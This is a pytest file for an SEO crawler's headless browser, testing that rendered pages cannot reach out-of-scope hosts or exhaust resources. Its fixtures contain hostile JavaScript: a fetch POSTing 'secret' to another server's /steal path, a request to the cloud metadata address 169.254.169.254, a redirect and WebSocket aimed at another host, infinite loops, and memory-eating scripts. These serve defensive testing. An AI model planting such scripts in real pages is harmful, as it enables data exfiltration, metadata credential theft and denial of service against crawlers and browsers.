"""The rendering browser reaches only what the crawl's scope and safety policy allow, and a
page's script cannot exhaust memory or end the crawl.

Hostile pages on 127.0.0.1: a script that POSTs to another port, loads an image from it,
fetches it as localhost and asks for the cloud metadata address; a script that never ends;
a script that allocates without end; a script that keeps the renderer busy once the page has
loaded (only the render's deadline ends it). The other server must see nothing; what was blocked
is recorded (pages.browser_blocked, crawl.json, audit SEO-LINKS-030; vitals.parquet).
"""

from __future__ import annotations

import json
import shutil
from pathlib import Path

import pandas as pd
import pytest

from tests.hostile.server import HostileServer, Reply, cli

pytestmark = pytest.mark.skipif(
    shutil.which("chromium") is None and not Path("/usr/bin/chromium").exists(),
    reason="needs Chromium",
)

FAST = """
[render]
timeout_ms = 4000
wait_until = "load"
js_heap_mb = 128
renderer_max_mb = 400
[crawl]
retries = 0
"""


def _exfiltrating(other: str) -> str:
    port = other.rsplit(":", 1)[1]
    return f"""<div id=app></div><script>
fetch('{other}/steal', {{method: 'POST', body: 'secret', mode: 'no-cors'}}).catch(() => 0);
fetch('http://localhost:{port}/as-localhost', {{mode: 'no-cors'}}).catch(() => 0);
fetch('http://169.254.169.254/latest/meta-data/').catch(() => 0);
fetch('/same-origin-post', {{method: 'POST', body: 'fine'}}).catch(() => 0);
const img = new Image(); img.src = '{other}/pixel.gif'; document.body.appendChild(img);
document.getElementById('app').innerHTML = '<h1>Rendered</h1>';
</script>"""


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "searchops.toml"
    path.write_text(FAST)
    return path


def test_the_rendering_browser_stays_in_scope(tmp_path: Path, config: Path) -> None:
    other = HostileServer()
    with other.running() as elsewhere:
        site = HostileServer()
        site.route("/", Reply(body=lambda base: _exfiltrating(elsewhere).encode()))
        with site.running() as base:
            done = cli(
                "--config", str(config), "crawl", base + "/", "--render", "always",
                "--out", str(tmp_path / "run"), cwd=tmp_path, timeout=240,
            )  # fmt: skip
            audit = cli(
                "audit",
                str(tmp_path / "run"),
                "--format",
                "json",
                "--fail-on",
                "never",
                cwd=tmp_path,
            )
    assert done.returncode == 0, done.stderr
    assert other.requests == [], other.paths()  # nothing reached the other port
    assert ("POST", "/same-origin-post") in {(r.method, r.path) for r in site.requests}
    page = pd.read_parquet(tmp_path / "run" / "pages.parquet").set_index("url").loc[base + "/"]
    assert page["rendered"] and list(page["h1"]) == ["Rendered"]
    blocked = " ".join(page["browser_blocked"])
    assert f"out-of-scope: POST {elsewhere}/steal" in blocked
    assert f"out-of-scope: GET {elsewhere}/pixel.gif" in blocked
    assert "/as-localhost" in blocked and "unsafe-address: GET http://169.254.169.254/" in blocked
    assert (
        json.loads((tmp_path / "run" / "crawl.json").read_text())["stats"]["browser_blocked"] == 4
    )
    assert "kept from 4 request(s)" in done.stderr
    findings = json.loads(audit.stdout)["findings"]
    assert [f["url"] for f in findings if f["rule_id"] == "SEO-LINKS-030"] == [base + "/"]


def test_redirects_and_websockets_cannot_take_the_browser_to_another_host(
    tmp_path: Path, config: Path
) -> None:
    """Interception sees only a redirect chain's first request (an in-scope one here) and no
    WebSocket: the host fence (Chromium's resolver knows only the scope's hosts) stops both."""
    other = HostileServer(host="127.0.0.2")
    other.route("/after-redirect", Reply(body=b"GIF89a", content_type="image/gif"))
    with other.running() as elsewhere:
        site = HostileServer()
        site.route("/hop", Reply(status=302, headers={"Location": f"{elsewhere}/after-redirect"}))
        script = (
            "<script>fetch('/hop', {mode: 'no-cors'}).catch(() => 0);"
            f"try {{ new WebSocket('ws://{elsewhere[7:]}/ws'); }}"
            "catch (e) {}; document.body.insertAdjacentHTML('beforeend', '<h1>Rendered</h1>')"
            "</script>"
        )
        site.route("/", Reply.html(script))
        with site.running() as base:
            done = cli(
                "--config", str(config), "crawl", base + "/", "--render", "always",
                "--out", str(tmp_path / "run"), cwd=tmp_path, timeout=240,
            )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert ("GET", "/hop") in {(r.method, r.path) for r in site.requests}  # the redirect was asked
    assert other.requests == [], other.paths()  # but neither it nor the WebSocket got through
    page = pd.read_parquet(tmp_path / "run" / "pages.parquet").set_index("url").loc[base + "/"]
    assert page["rendered"] and list(page["h1"]) == ["Rendered"]


def test_a_never_ending_script_keeps_the_raw_page(tmp_path: Path, config: Path) -> None:
    site = HostileServer()
    site.route(
        "/",
        Reply.html(
            "<p>Tents and tarps</p><a href='/next'>next</a><script>while (true) {}</script>"
        ),
    )
    site.route("/next", Reply.html("<h1>Next</h1><p>A page with its content in the HTML.</p>"))
    with site.running() as base:
        done = cli("--config", str(config), "crawl", base + "/", "--render", "auto",
                   "--out", str(tmp_path / "run"), cwd=tmp_path, timeout=240)  # fmt: skip
    assert done.returncode == 0, done.stderr
    pages = pd.read_parquet(tmp_path / "run" / "pages.parquet").set_index("url")
    start = pages.loc[base + "/"]
    assert start["fetch_state"] == "fetched" and start["status"] == 200 and not start["rendered"]
    assert start["error"].startswith("render failed:") and start["needs_render"]
    assert start["word_count"] == 4  # the raw HTML's facts ("Tents and tarps", "next")
    assert pages.loc[base + "/next", "status"] == 200  # its links were followed


# Generous bounds for a busy 2-core machine: a plain page renders in a few seconds there.
DEADLINE = """
[render]
timeout_ms = 15000
wait_until = "load"
deadline_s = 30
close_timeout_s = 10
max_pages_open = 1
[crawl]
retries = 0
"""


@pytest.mark.slow
def test_a_render_that_never_ends_after_load_is_cut_at_its_deadline(tmp_path: Path) -> None:
    # The load event fires (goto returns), then the script never yields: page.content()
    # cannot return, and under V8's heap cap and the watchdog's RSS limit nothing else ends it.
    config = tmp_path / "deadline.toml"
    config.write_text(DEADLINE)
    site = HostileServer()
    site.route("/", Reply.html("<h1>Home</h1><a href='/stuck'>stuck</a>"))
    site.route("/stuck", Reply.html(
        "<h1>Stuck</h1><p>Tents and tarps</p><a href='/after'>after</a><script>"
        "addEventListener('load', () => setTimeout(() => { while (true) {} }, 0));</script>"
    ))  # fmt: skip
    # Linked only from /stuck: rendered after its timeout, in the one browser context it held.
    site.route("/after", Reply.html("<div id=app></div><script>"
        "document.getElementById('app').innerHTML = '<h1>Rendered after</h1>';</script>"))  # fmt: skip
    with site.running() as base:
        done = cli("--config", str(config), "crawl", base + "/", "--render", "always",
                   "--out", str(tmp_path / "run"), cwd=tmp_path, timeout=240)  # fmt: skip
    assert done.returncode == 0, done.stderr
    pages = pd.read_parquet(tmp_path / "run" / "pages.parquet").set_index("url")
    stuck = pages.loc[base + "/stuck"]
    assert stuck["fetch_state"] == "fetched" and stuck["status"] == 200 and not stuck["rendered"]
    assert stuck["error"].startswith("render failed: RenderTimeout: render timed out"), stuck
    assert list(stuck["h1"]) == ["Stuck"]  # the raw HTML's facts are kept
    after = pages.loc[base + "/after"]
    assert after["rendered"] and list(after["h1"]) == ["Rendered after"]
    assert pages.loc[base + "/", "rendered"]
    audit = cli("audit", str(tmp_path / "run"), "--format", "json", "--rules", "SEO-RENDER-005", "--fail-on", "never",
                cwd=tmp_path)  # fmt: skip
    assert audit.returncode == 0, audit.stderr
    found = {f["url"]: f for f in json.loads(audit.stdout)["findings"]}
    assert list(found) == [base + "/stuck"]
    assert found[base + "/stuck"]["evidence"].startswith("deadline: render failed: RenderTimeout")


@pytest.mark.slow
def test_a_page_that_eats_memory_is_killed_and_recorded(tmp_path: Path) -> None:
    # /fine renders beside two pages pinning the CPU: on a busy 2-core machine a 4 s
    # navigation timeout cut it (2 of 5 runs in parallel at load 50); the hostile pages end
    # through the heap cap, the watchdog, or the navigation timeout, whichever comes first.
    config = tmp_path / "memory.toml"
    config.write_text(
        "[render]\ntimeout_ms = 30000\nwait_until = 'load'\njs_heap_mb = 128\n"
        "renderer_max_mb = 400\n[crawl]\nretries = 0\n"
    )
    site = HostileServer()
    site.route(
        "/",
        Reply.html(
            "<h1>Home</h1><a href='/eat'>eat</a><a href='/buffers'>buffers</a><a href='/fine'>fine</a>"
        ),
    )
    site.route(
        "/eat",
        Reply.html(
            "<script>const a = []; while (true) a.push(new Array(1e6).fill(Math.random()));</script>"
        ),
    )
    # Typed arrays live outside V8's heap: only the watchdog stops these.
    site.route("/buffers", Reply.html(
        "<script>const a = []; setInterval(() => { for (let i = 0; i < 8; i++) "
        "{ const b = new Uint8Array(5e7); b.fill(1); a.push(b); } }, 50);</script>"
    ))  # fmt: skip
    site.route("/fine", Reply.html("<h1>Fine</h1>"))
    with site.running() as base:
        done = cli("--config", str(config), "crawl", base + "/", "--render", "always",
                   "--out", str(tmp_path / "run"), cwd=tmp_path, timeout=300)  # fmt: skip
    assert done.returncode == 0, done.stderr
    pages = pd.read_parquet(tmp_path / "run" / "pages.parquet").set_index("url")
    for path in ("/eat", "/buffers"):
        assert str(pages.loc[base + path, "error"]).startswith("render failed:"), path
    assert pages.loc[base + "/fine", "rendered"] and pages.loc[base + "/fine", "status"] == 200


def test_vitals_browser_stays_in_scope(tmp_path: Path, config: Path) -> None:
    other = HostileServer()
    with other.running() as elsewhere:
        site = HostileServer()
        site.route("/", Reply(body=lambda base: _exfiltrating(elsewhere).encode()))
        with site.running() as base:
            done = cli("--config", str(config), "vitals", base + "/", "--runs", "1",
                       "--profile", "none", "--out", str(tmp_path / "vitals"), cwd=tmp_path, timeout=240)  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert other.requests == [], other.paths()
    row = pd.read_parquet(next((tmp_path / "vitals").rglob("vitals.parquet"))).iloc[0]
    blocked = " ".join(row["browser_blocked"])
    assert f"out-of-scope: POST {elsewhere}/steal" in blocked and "pixel.gif" in blocked
    assert "kept from" in done.stderr
